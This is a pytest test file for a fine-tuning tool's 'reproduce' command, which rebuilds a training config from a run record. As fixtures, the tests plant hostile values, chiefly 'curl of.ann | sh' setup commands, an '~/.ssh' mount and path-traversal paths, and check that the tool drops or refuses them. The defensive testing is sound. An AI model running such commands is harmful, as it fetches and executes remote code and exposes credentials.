"""ftl reproduce: what it writes, and what it says of things that may have changed."""

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from hub_server import HubServer

from ftl import __version__
from ftl.commands import reproduce
from ftl.config.load import load_train
from ftl.errors import ConfigError

SHA = "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"  # of the three bytes foo


@pytest.fixture
def record() -> dict[str, Any]:
    result = {
        "run_id": "ab-cd",
        "attempt": 1,
        "steps": 1,
        "epochs": 1,
        "tokens": 1,
        "train_loss_first": 1,
        "train_loss_last": 1,
        "seconds": 1,
        "num_parameters": 1,
        "num_trainable": 1,
        "base_revision": "c" * 40,
        "datasets": [{"key": "datasets.0", "label": "./rows.jsonl", "identity": "d"}],
    }
    return {
        "run_id": "ab-cd",
        "ftl": __version__,
        "finished_at": 0,
        "hours": 1,
        "config": {
            "base_model": "org/base",
            "datasets": [{"path": "./rows.jsonl", "type": "alpaca"}],
            "learning_rate": 1e-4,
            "hub_model_id": "me/tuned",
        },
        "inputs": {"rows.jsonl": SHA},
        "cloud": {"provider": "docker"},
        "image": "repo/image@sha256:" + "9" * 64,
        "result": result,
        "a_key_of_tomorrow": 1,
    }


def reproduced(record: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> str:
    (tmp_path / "ftl-run.json").write_text(json.dumps(record))
    assert reproduce.run(str(tmp_path / "ftl-run.json"), tmp_path / "again") == 0
    return capsys.readouterr().err.replace("\n", " ")


def test_files_train_the_same_and_publish_nothing(record, tmp_path, capsys) -> None:
    (tmp_path / "again").mkdir()
    (tmp_path / "again/rows.jsonl").write_bytes(b"foo")
    told = reproduced(record, tmp_path, capsys)
    assert "every part of it is pinned" in told
    config = load_train(tmp_path / "again/cfg.yml").config
    assert config.hub.repo is None
    assert config.model.revision == "c" * 40
    assert config.optim.learning_rate == 1e-4
    assert yaml.safe_load((tmp_path / "again/cloud.yml").read_text()) == {
        "provider": "docker",
        "image": record["image"],
    }


def test_record_of_somebody_else_does_not_have_code_run(record, tmp_path, capsys) -> None:
    record["config"]["trust_remote_code"] = True
    told = reproduced(record, tmp_path, capsys)
    assert f"it ran code of org/base: read it at commit {'c' * 40}, then add `trust_remote_code: true`" in told
    assert not load_train(tmp_path / "again/cfg.yml").config.model.trust_remote_code


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({}, "rows.jsonl was a file of whoever trained it"),
        ({"ftl": "0.0.1"}, f"it was trained by ftl 0.0.1, and this is {__version__}"),
        ({"config": {"base_model": "./model", "datasets": []}}, "base_model ./model was a directory"),
        ({"inputs": {}}, "datasets.0 ./rows.jsonl was not pinned"),
    ],
)
def test_what_may_be_another_thing_is_told(record, tmp_path, capsys, changes: dict[str, Any], said: str) -> None:
    told = reproduced({**record, **changes}, tmp_path, capsys)
    assert said in told
    assert "it is not pinned in full" in told


def test_other_file_than_was_trained_with_is_told(record, tmp_path, capsys) -> None:
    (tmp_path / "again").mkdir()
    (tmp_path / "again/rows.jsonl").write_bytes(b"bar")
    assert "is another file than was trained with" in reproduced(record, tmp_path, capsys)


@pytest.mark.parametrize(
    ("content", "said"),
    [("{}", "run_id: field required"), ("no json", "is not a ftl-run.json that this ftl can read")],
)
def test_file_that_is_no_record_is_one_sentence(tmp_path: Path, content: str, said: str) -> None:
    (tmp_path / "ftl-run.json").write_text(content)
    with pytest.raises(ConfigError, match=said):
        reproduce.run(str(tmp_path), tmp_path / "again")


def test_nothing_of_that_name_is_one_sentence(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"must be a repository of the Hub \(user/name\), or a ftl-run.json"):
        reproduce.run(str(tmp_path / "nowhere.json"), None)


def test_file_in_the_way_is_kept(record, tmp_path: Path) -> None:
    (tmp_path / "again").mkdir()
    (tmp_path / "again/cfg.yml").write_text("mine: true\n")
    (tmp_path / "ftl-run.json").write_text(json.dumps(record))
    with pytest.raises(ConfigError, match="is there already, and is another file"):
        reproduce.run(str(tmp_path / "ftl-run.json"), tmp_path / "again")
    assert (tmp_path / "again/cfg.yml").read_text() == "mine: true\n"


def test_data_is_taken_at_the_commit_that_it_was(record, tmp_path, capsys) -> None:
    record["config"]["datasets"] = [{"path": "org/rows", "type": "alpaca"}]
    record["result"]["datasets"] = [{"key": "datasets.0", "label": "org/rows", "identity": "d", "revision": "e" * 40}]
    record["inputs"] = {}
    assert "every part of it is pinned" in reproduced(record, tmp_path, capsys)
    assert load_train(tmp_path / "again/cfg.yml").config.data.datasets[0].revision == "e" * 40


def test_nothing_of_somebody_else_s_account_is_asked_for(record, tmp_path, capsys) -> None:
    record["config"] |= {"use_wandb": True, "wandb_entity": "ann", "mlflow_tracking_uri": "https://of.ann"}
    record["cloud"] = {
        "provider": "modal",
        "gpu": ["A10"],
        "volume": "of-ann",
        "modal_secrets": ["of-ann"],
        "dockerfile_commands": ["RUN curl of.ann | sh"],
        "sky": {"setup": "curl of.ann | sh", "file_mounts": {"~/k": "~/.ssh"}},
    }
    told = reproduced(record, tmp_path, capsys)
    assert "mlflow_tracking_uri, use_wandb, wandb_entity left out" in told
    assert "modal_secrets, sky, volume of its cloud file left out" in told
    assert 'dockerfile_commands of its cloud file left out: ["RUN curl of.ann | sh"]' in told
    assert "ann" not in (tmp_path / "again/cfg.yml").read_text().partition("\n")[2]
    assert yaml.safe_load((tmp_path / "again/cloud.yml").read_text()) == {"provider": "modal", "gpu": ["A10"]}


@pytest.mark.parametrize(
    "path", ["/home/you/.ssh", "~/My Documents", "../../secrets.jsonl", "./x/../../y", "file:///x"]
)
def test_record_that_names_a_place_on_this_machine_is_refused(record, tmp_path: Path, path: str) -> None:
    record["config"]["datasets"] = [{"path": path, "type": "completion"}]
    (tmp_path / "ftl-run.json").write_text(json.dumps(record))
    with pytest.raises(ConfigError, match=r"datasets\.0\.path: .* names a place on your machine"):
        reproduce.run(str(tmp_path / "ftl-run.json"), tmp_path / "again")
    assert not (tmp_path / "again").exists()


@pytest.mark.parametrize(
    ("image", "said"),
    [
        ("sha256:" + "9" * 64, "its image sha256:999999999999 was on the machine of whoever trained it"),
        ("ann/image:latest", "its image ann/image:latest was not pinned to a digest"),
    ],
)
def test_image_that_nobody_can_have_again_is_told(record, tmp_path, capsys, image: str, said: str) -> None:
    assert said in reproduced({**record, "image": image}, tmp_path, capsys)


def test_what_the_hub_has_no_more_is_told(record, tmp_path: Path) -> None:
    """By the real client, which reads its environment once: in a process of its own."""
    record["config"]["datasets"] = [{"path": "org/rows", "type": "alpaca"}]
    record["inputs"] = {}
    with HubServer() as hub:
        hub.accounts["hf_bob"] = {"name": "bob", "auth": {"accessToken": {"role": "read"}}}
        rows = hub.add("dataset", "org/rows", {"train.jsonl": b"{}"})
        base = hub.add("model", "org/base", {"config.json": b"{}"})
        record["result"] |= {
            "base_revision": base,
            "datasets": [{"key": "datasets.0", "label": "org/rows", "identity": "d", "revision": rows}],
        }
        hub.add("model", "ann/tuned", {"ftl-run.json": json.dumps(record).encode()})
        bob = {"HF_ENDPOINT": hub.url, "HF_TOKEN": "hf_bob", "HF_HOME": str(tmp_path), "HF_HUB_OFFLINE": "0"}

        def told(dest: str) -> str:
            command = [sys.executable, "-c", "from ftl.cli import main; main()", "reproduce", "ann/tuned", dest]
            done = subprocess.run(
                command, capture_output=True, text=True, check=True, env={**os.environ, **bob}, cwd=tmp_path
            )
            return " ".join(done.stderr.split())

        assert "every part of it is pinned" in told("one")
        del hub.repositories["dataset", "org/rows"].commits[rows]
        assert "datasets org/rows cannot be had any more as it was: " in told("two")
